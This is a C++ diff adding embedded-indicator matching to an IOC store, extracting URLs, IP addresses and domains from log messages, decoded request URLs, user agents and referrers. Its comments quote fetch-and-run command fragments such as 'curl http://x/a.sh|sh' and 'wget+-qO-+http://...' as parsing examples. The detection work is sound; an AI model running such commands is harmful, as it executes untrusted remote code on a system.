@@ -612,6 +612,104 @@ void IocStore::MatchEvent(const Event& ev, int64_t now_millis, std::vector<IocMa
 
 namespace {
 
+bool IsHostByte(char c) {
+  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '.' ||
+         c == '-';
+}
+
+bool IsAlpha(char c) {
+  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
+}
+
+// Bytes that end a URL written inside text: white space, quotes, brackets and the shell's
+// separators ("curl http://x/a.sh|sh", "`wget http://x/a`").
+bool EndsEmbeddedUrl(char c) {
+  return static_cast<unsigned char>(c) <= ' ' || c == '"' || c == '\'' || c == '`' || c == '|' ||
+         c == ';' || c == '&' || c == '<' || c == '>' || c == '(' || c == ')' || c == '[' ||
+         c == ']' || c == '{' || c == '}' || c == '\\' || c == ',' || c == '$';
+}
+
+// A run of host bytes read as a domain name: two labels or more, the last alphabetic (a
+// top-level domain), no empty label. "theme2.css" passes too: only the indicator table decides.
+bool LooksLikeDomain(std::string_view run) {
+  size_t last_dot = run.rfind('.');
+  if (last_dot == std::string_view::npos || run.size() > 253) return false;
+  std::string_view tld = run.substr(last_dot + 1);
+  if (tld.size() < 2 || !std::all_of(tld.begin(), tld.end(), IsAlpha)) return false;
+  return run.find("..") == std::string_view::npos;
+}
+
+}  // namespace
+
+void IocStore::MatchEmbeddedIn(std::string_view text, Field field, int64_t now_millis,
+                               std::vector<IocMatch>* out) const {
+  if (text.size() > kMaxEmbeddedText) text = text.substr(0, kMaxEmbeddedText);
+  auto add = [&](const Ioc* ioc) {
+    if (ioc == nullptr) return;
+    for (const auto& m : *out) {
+      if (m.ioc == ioc) return;
+    }
+    out->push_back({ioc, field});
+  };
+  // URLs first: the whole URL may be an indicator, beside its host.
+  if (!urls_.empty()) {
+    for (size_t sep = text.find("://"); sep != std::string_view::npos;
+         sep = text.find("://", sep + 3)) {
+      // The scheme: letters and digits only, though RFC 3986 allows "+-." too, since in a
+      // payload those join it to what comes before ("wget+-qO-+http://...").
+      size_t start = sep;
+      while (start > 0 &&
+             (IsAlpha(text[start - 1]) || (text[start - 1] >= '0' && text[start - 1] <= '9'))) {
+        --start;
+      }
+      if (start == sep || !IsAlpha(text[start])) continue;  // no scheme before it
+      size_t end = sep + 3;
+      while (end < text.size() && !EndsEmbeddedUrl(text[end])) ++end;
+      if (end > sep + 3) add(FindUrl(text.substr(start, end - start), now_millis));
+    }
+  }
+  // Every run of host bytes: an IPv4 address, or a domain name (a URL's host is one of them).
+  if (networks_.empty() && domains_.empty()) return;
+  size_t i = 0;
+  while (i < text.size()) {
+    if (!IsHostByte(text[i])) {
+      ++i;
+      continue;
+    }
+    size_t end = i;
+    while (end < text.size() && IsHostByte(text[end])) ++end;
+    std::string_view run = text.substr(i, end - i);
+    i = end;
+    while (!run.empty() && (run.front() == '.' || run.front() == '-')) run.remove_prefix(1);
+    while (!run.empty() && (run.back() == '.' || run.back() == '-')) run.remove_suffix(1);
+    if (run.find('.') == std::string_view::npos) continue;
+    if (run[0] >= '0' && run[0] <= '9' && !networks_.empty() && !Ipv4PrefixUnlisted(run)) {
+      if (auto ip = ParseIp(run); ip && ip->v4) {
+        add(FindIp(*ip, now_millis));
+        continue;
+      }
+    }
+    if (!domains_.empty() && LooksLikeDomain(run)) add(FindDomain(run, now_millis));
+  }
+}
+
+void IocStore::MatchEmbedded(const Event& ev, bool payloads, int64_t now_millis,
+                             std::vector<IocMatch>* out) const {
+  if (entries_.empty()) return;
+  if (ev.Has(Field::kMessage))
+    MatchEmbeddedIn(ev.Get(Field::kMessage), Field::kMessage, now_millis, out);
+  if (!payloads) return;
+  if (ev.Has(Field::kUrlOriginal)) {
+    // Decoded: "curl%20http%3A%2F%2F198.51.100.9" is what the server ran.
+    MatchEmbeddedIn(ev.Decoded(Field::kUrlOriginal), Field::kUrlOriginal, now_millis, out);
+  }
+  for (Field f : {Field::kUserAgentOriginal, Field::kHttpRequestReferrer}) {
+    if (ev.Has(f)) MatchEmbeddedIn(ev.Get(f), f, now_millis, out);
+  }
+}
+
+namespace {
+
 int64_t JsonTimeMillis(const nlohmann::json& obj, const char* key) {
   auto it = obj.find(key);
   if (it == obj.end() || !it->is_string()) return 0;
